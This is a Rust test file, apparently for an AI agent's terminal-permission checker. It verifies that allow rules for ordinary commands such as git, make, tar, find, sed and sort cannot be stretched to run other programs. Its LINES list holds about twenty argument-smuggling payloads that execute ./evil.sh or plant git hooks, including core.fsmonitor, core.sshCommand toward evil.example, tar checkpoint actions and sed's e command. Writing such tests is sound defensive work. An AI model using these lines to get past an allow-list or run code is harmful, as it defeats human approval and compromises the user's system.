//! Rules that were far too wide: what a yes to a harmless command must not allow.

use serde_json::{Value, json};

use super::support::Place;

/// What a person may have answered "always" to, in the first version.
const RULES: &[&[&str]] = &[
    &["uv", "run", "pytest"],
    &["git", "config", "--get"],
    &["git", "branch"],
    &["git", "clone"],
    &["git", "submodule"],
    &["git", "diff"],
    &["git", "status"],
    &["make", "test"],
    &["tar"],
    &["split"],
    &["find"],
    &["sort"],
    &["sed"],
    &["awk"],
    &["env"],
    &["cp"],
];

/// Each would run `evil.sh`, change what runs later, or write outside, with a rule of the first version for its beginning.
const LINES: &[&str] = &[
    "git config core.fsmonitor ./evil.sh",
    "git config --get x --add alias.status '!./evil.sh'",
    "git clone -c core.sshCommand=./evil.sh ssh://evil.example/x y",
    "git clone -u ./evil.sh . y",
    "git submodule --quiet foreach ./evil.sh",
    "git branch -D topic",
    "git diff --output=.git/hooks/post-checkout",
    "git diff --ext-diff",
    "make test SHELL:=./evil.sh",
    "make test 'X:=$(shell ./evil.sh)'",
    "tar cIf ./evil.sh out.tar a",
    "tar -cf out.tar a --checkpoint=1 --checkpoint-action=exec=./evil.sh",
    "split --filter=./evil.sh a",
    "find . -name a -exec ./evil.sh '{}' +",
    "sort -o .git/hooks/post-checkout a",
    "sort -S 1b --compress-program=./evil.sh a",
    "sed -n '1e ./evil.sh' a",
    "awk 'BEGIN{system(\"./evil.sh\")}'",
    "env ./evil.sh",
    "cp evil.sh .git/hooks/post-checkout",
    "uv run sh -c ./evil.sh",
];

#[test]
fn a_rule_for_a_harmless_command_runs_no_other_program() {
    let place = Place::new();
    let rules: String =
        RULES.iter().map(|words| format!("[[rule]]\nverdict = \"allow\"\ncommand = {words:?}\n")).collect();
    place.rules(&rules);
    let evil = place.write("project/evil.sh", "#!/bin/sh\ntouch \"$HOME/pwned\"\n");
    std::fs::set_permissions(evil, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    place.write("project/a", "some lines\n".repeat(1000));
    place.write("project/Makefile", "test:\n\t@echo tested\n");
    for arguments in
        [&["init", "-q"][..], &["add", "a"], &["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"]]
    {
        let mut git = std::process::Command::new("git");
        git.args(arguments);
        place.prepare(&mut git);
        assert!(git.status().unwrap().success(), "{arguments:?}");
    }
    let create = |line: &str| json!({"call": "terminal/create", "params": {"command": "sh", "args": ["-c", line]}});
    let wait = json!({"call": "terminal/wait_for_exit", "params": {"terminalId": "$terminal"}});
    // What the rules are for runs without a question.
    let mut script = vec![create("git status --short"), wait.clone(), create("make test"), wait];
    script.extend(LINES.iter().map(|line| create(line)));
    let ran = place.run(place.attack(1, &[], &Value::Array(script)));
    let answers: Vec<&Value> = ran.log.iter().filter(|entry| entry["call"] == "terminal/create").collect();
    assert_eq!(answers.len(), LINES.len() + 2, "{ran:?}");
    for answer in &answers[..2] {
        assert!(answer["result"]["terminalId"].is_string(), "{answer} {ran:?}");
    }
    for (line, answer) in LINES.iter().zip(&answers[2..]) {
        assert!(answer["error"].is_object(), "{line} was run: {answer}");
    }
    assert!(!place.home().join("pwned").exists(), "{ran:?}");
    assert_eq!(place.read("project/.git/hooks/post-checkout"), "");
    assert!(!place.read("project/.git/config").contains("evil"));
}
